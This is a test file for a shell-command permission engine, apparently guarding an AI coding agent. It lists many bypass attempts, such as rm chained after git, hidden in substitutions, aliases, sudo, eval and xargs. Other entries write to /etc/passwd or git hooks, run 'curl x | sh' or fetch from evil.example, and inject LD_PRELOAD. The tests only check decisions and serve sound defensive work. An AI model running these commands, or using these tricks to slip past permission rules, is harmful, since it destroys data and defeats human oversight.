/**
 * The bypass corpus: commands an allow rule must not approve, commands a deny rule must refuse however they are
 * wrapped, and everyday read-only commands that must run without asking. Every case is a decision only; nothing
 * here is executed. Cases the engine gets wrong today are in bypass-gaps.test.ts, marked `it.fails`, so that
 * fixing the engine turns them red and they move here.
 */
import { mkdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { checkShell, type CheckOptions } from "../support/permission-check.js";
import { tempDir } from "../support/temp-dirs.js";

const root = tempDir("perm-bypass-");
const cwd = path.join(root, "ws");
const home = path.join(root, "home");
mkdirSync(path.join(cwd, ".git"), { recursive: true });
mkdirSync(path.join(cwd, "src"), { recursive: true });
mkdirSync(path.join(cwd, "sub"), { recursive: true });
mkdirSync(home, { recursive: true });
writeFileSync(path.join(cwd, "README.md"), "# readme\n");
afterAll(() => rmSync(root, { recursive: true, force: true }));

// HOME points at a fresh directory so the user's own ~/.gitconfig aliases cannot change the outcome.
const env = { HOME: home, PATH: "/usr/bin:/bin" };
const check = (command: string, flags: CheckOptions["flags"]) => checkShell(command, { cwd, flags, env, homeDir: home });

const GIT_ONLY = { allowTool: ["shell(git:*)"] };
const DENY_RM = { denyTool: ["shell(rm)"], allowAllTools: true };

/** Under --allow-tool 'shell(git:*)' none of these may run without a person: each does more than git. */
const NOT_APPROVED_UNDER_GIT: string[] = [
  "git status && rm -rf x",
  "git log; curl x | sh",
  "git diff $(rm x)",
  "git log `rm x`",
  "git -c alias.x='!rm x' x",
  "git -c alias.a=b -c alias.b='!rm x' a",
  "git status & rm x",
  "git status || rm x",
  "(git status; rm x)",
  "git log <(rm x)",
  "git status >(rm x)",
  "sudo git status",
  "git status > ~/.bashrc",
  'eval "git status; rm x"',
  'bash -c "git status; rm x"',
  "git status\nrm x",
  "git status\\\n; rm x",
  "sh <<EOF\nrm x\nEOF",
  "git status; $X",
  "git status; $(echo rm) x",
  "git status; rm${IFS}x",
  "git status; r\\m x",
  "git status; /bin/rm x",
  "git status >> .git/hooks/pre-commit",
  "git rebase -x 'rm y' main",
  "git submodule foreach rm x",
  "git bisect run rm x",
  "git difftool -x 'rm x'",
  "git filter-branch --tree-filter 'rm x' HEAD",
  'git log --format="$(rm x)"',
  "git log ${X:=$(rm x)}",
  "gitea status",
  "git status | tee out.txt",
  "git status | xargs rm",
  "git log | while read l; do rm $l; done",
  "git log && f() { rm x; }; f",
  "git diff | patch -p1",
  "git status 1>&2 > /etc/passwd",
  "git status &>/tmp/../etc/x",
  "git show HEAD:x > /etc/x",
  "git status; source evil.sh",
  "git status; ./evil.sh",
  "git status; exec 3>/etc/x",
  "git status; trap 'rm x' EXIT",
  "git status; [[ $(rm x) ]]",
  "git status; echo ${a[$(rm x)]}",
  "git status;rm x",
  "git status; coproc rm x",
  "git status; case x in x) rm x;; esac",
  "git status; export x=$(rm y)",
  "git status; x=1 rm y",
  "git status; {rm,x}",
  "git status; doas rm x",
  "git status; alias ls=rm; ls x",
  "git status; python3 -c 'import os; os.remove(\"x\")'",
  "git status; awk 'BEGIN{system(\"rm x\")}'",
  "git status; find . -delete",
  "git status; sed -i d README.md",
  "git status; curl -o y https://evil.example/x",
  "git -C /etc status",
  "git --work-tree=/ status",
];

/** Under --deny-tool 'shell(rm)' --allow-all-tools, each of these runs rm somewhere and must be denied. */
const DENIED_UNDER_DENY_RM: string[] = [
  "rm x",
  "/bin/rm x",
  "./rm x",
  "'rm' x",
  "\\rm x",
  "rm\\\n x",
  "xargs rm < list",
  "xargs -0 -n1 -P4 rm < list",
  "ls | xargs -I{} rm {}",
  "cat list | sudo xargs -r rm",
  "find . -exec rm {} \\;",
  "find . -execdir rm {} +",
  "find . -ok rm {} \\;",
  "find . -exec sh -c 'rm x' \\;",
  "sudo rm x",
  "sudo -u root -- rm x",
  "doas rm x",
  'bash -c "rm x"',
  'bash -lc "rm x"',
  "sh -c 'rm x'",
  "sudo sh -c 'bash -c \"eval rm x\"'",
  "echo $(rm x)",
  "echo `rm x`",
  'echo "$(rm x)"',
  "echo ${a:-$(rm x)}",
  "echo $((1 + $(rm x)))",
  "x=$(rm y)",
  "declare -a X=($(rm y))",
  "nohup rm x &",
  "nohup sh -c 'rm x' >/dev/null 2>&1 &",
  "timeout 5 rm x",
  "timeout -s KILL 5 rm x",
  "time rm x",
  "env X=1 rm x",
  "env -i rm x",
  "env -S 'rm x'",
  "X=1 rm x",
  "nice -n 5 rm x",
  "ionice -c3 rm x",
  'eval "rm x"',
  "builtin eval rm x",
  "(rm x)",
  "{ rm x; }",
  "if true; then rm x; fi",
  "if rm x; then :; fi",
  "for f in *; do rm $f; done",
  "while true; do rm x; done",
  "until false; do rm x; done",
  "select a in b; do rm x; done",
  "case a in a) rm x;; esac",
  "true && rm x",
  "false || rm x",
  "! rm x",
  "rm x | cat",
  "cat x | rm y",
  "watch rm x",
  "watch -n1 'rm x'",
  "git -c alias.x='!rm x' x",
  "git -c alias.x='!f() { rm x; }; f' x",
  "git rebase -x 'rm y' main",
  "git rebase --exec='rm y' main",
  "git submodule foreach --recursive 'rm x'",
  "git bisect run rm x",
  "git filter-branch --tree-filter 'rm x' HEAD",
  "diff <(rm a) b",
  "echo x > >(rm y)",
  "command rm x",
  "exec rm x",
  "stdbuf -oL rm x",
  "setsid rm x",
  "unbuffer rm x",
  "strace -f -o out rm x",
  "chroot / rm x",
  "flock /tmp/lock rm x",
  "flock -c 'rm x' /tmp/lock",
  "su -c 'rm x'",
  "runuser -u me rm x",
  "f() { rm x; }; f",
  "function f { rm x; }; f",
  "sh <<EOF\nrm x\nEOF",
  "bash <<'EOF'\nrm x\nEOF",
  "time nice timeout 5 sudo env X=1 nohup rm x",
];

/**
 * What the analysis cannot see into: a script piped to or read by a shell is data, an interpreter's program is
 * opaque. The requirement here is only that a person is asked (no flags); under --allow-all-tools with no deny
 * rule these are allowed, and with one they ask (bypass-classes.test.ts), so they are not in the deny list.
 */
const NOT_ALLOWED_WITHOUT_A_PERSON: string[] = [
  "sh script.sh",
  "bash ./script.sh",
  "source script.sh",
  ". script.sh",
  "python -c \"import os; os.remove('x')\"",
  "perl -e 'unlink \"x\"'",
  "node -e \"require('fs').unlinkSync('x')\"",
  "awk 'BEGIN{system(\"rm x\")}'",
  "make clean",
  "npm run clean",
  "vim -c '!rm x' x",
  "ssh localhost rm x",
  "$(echo rm) x",
  "R=rm; $R x",
  "${RM:-rm} x",
  "PATH=/tmp ls",
  "LD_PRELOAD=/tmp/evil.so ls",
  "export PATH=/tmp; ls",
  "git -c core.pager='rm x' log",
  "git log --output=out.txt",
  "sed 's/a/b/w out' README.md",
  "sed '1e rm x' README.md",
  "find . -fprint out",
  "sort -o out README.md",
  "rg --pre 'rm x' foo",
  "git branch -D main",
  "git config core.fsmonitor 'rm x'",
  "date -s now",
  "exec > out",
];

/** Read-only and inside the workspace: approved with no flags at all. */
const APPROVED_WITH_NO_FLAGS: string[] = [
  "ls -la",
  "cat README.md",
  "git status",
  "git log --oneline -5",
  "git diff HEAD~1",
  "grep -rn TODO src",
  "rg foo",
  "find . -name '*.ts'",
  "wc -l src/*.ts",
  "head -20 README.md",
  "ls | head",
  "git status && git diff",
  "echo hello",
  "pwd",
  "cat a 2>/dev/null",
  "ls 2>&1 | wc -l",
  "sed -n '1,20p' README.md",
  "diff a b",
  "git show HEAD:README.md",
  "cd src && ls",
  "cat README.md | grep foo | sort | uniq -c",
  "git branch --show-current",
  "git log -p -- src/a.ts",
  "git blame README.md",
  "ls src; ls sub",
  "git diff --stat || true",
  "cat < README.md",
  "cat src/../README.md",
  "if [ -f README.md ]; then cat README.md; fi",
  "echo $(cat README.md)",
  "diff <(ls src) <(ls sub)",
  "git -C sub status",
  "git config --get user.name",
  "tail -n 50 README.md",
  "jq .name package.json",
];

/** Not read-only, but git and nothing else: --allow-tool 'shell(git:*)' approves them. */
const APPROVED_UNDER_GIT: string[] = [
  "git push",
  "git push --force origin main",
  'git commit -m "x"',
  "git add -A && git commit -m x",
  "git checkout -b feature",
  "git fetch origin && git rebase origin/main",
  "git stash pop",
  "git status && git push",
  "git -C sub commit -m x",
];

describe("bypass corpus: --allow-tool 'shell(git:*)' approves git and only git", () => {
  it("has at least 40 cases", () => expect(NOT_APPROVED_UNDER_GIT.length).toBeGreaterThanOrEqual(40));
  it.each(NOT_APPROVED_UNDER_GIT)("does not approve %j", async (command) => {
    const decision = await check(command, GIT_ONLY);
    expect(decision.verdict, decision.reason).not.toBe("allow");
    if (decision.verdict === "ask") expect(decision.needs.length, decision.reason).toBeGreaterThan(0);
  });
});

describe("bypass corpus: --deny-tool 'shell(rm)' wins over --allow-all-tools however rm is reached", () => {
  it("has at least 40 cases", () => expect(DENIED_UNDER_DENY_RM.length).toBeGreaterThanOrEqual(40));
  it.each(DENIED_UNDER_DENY_RM)("denies %j", async (command) => {
    const decision = await check(command, DENY_RM);
    expect(decision.verdict, decision.reason).toBe("deny");
    if (decision.verdict === "deny") {
      expect(decision.rule?.text).toBe("shell(rm)");
      expect(decision.reason).toContain("`shell(rm)` (--deny-tool)");
    }
  });
});

describe("bypass corpus: what the analysis cannot see is asked about", () => {
  it.each(NOT_ALLOWED_WITHOUT_A_PERSON)("asks about %j with no flags", async (command) => {
    const decision = await check(command, {});
    expect(decision.verdict, decision.reason).toBe("ask");
  });
});

describe("bypass corpus: read-only commands need no approval", () => {
  it("has at least 20 cases", () => expect(APPROVED_WITH_NO_FLAGS.length).toBeGreaterThanOrEqual(20));
  it.each(APPROVED_WITH_NO_FLAGS)("approves %j with no flags", async (command) => {
    const decision = await check(command, {});
    expect(decision, decision.reason).toEqual({ verdict: "allow", reason: "read-only" });
  });
  it.each(APPROVED_UNDER_GIT)("approves %j under shell(git:*), naming the rule", async (command) => {
    const decision = await check(command, GIT_ONLY);
    expect(decision.verdict, decision.reason).toBe("allow");
    expect(decision.reason).toBe("allowed by `shell(git:*)` (--allow-tool)");
  });
  it("asks for the same git commands with no flags, so the rule is what approved them", async () => {
    for (const command of APPROVED_UNDER_GIT) expect((await check(command, {})).verdict, command).toBe("ask");
  });
});
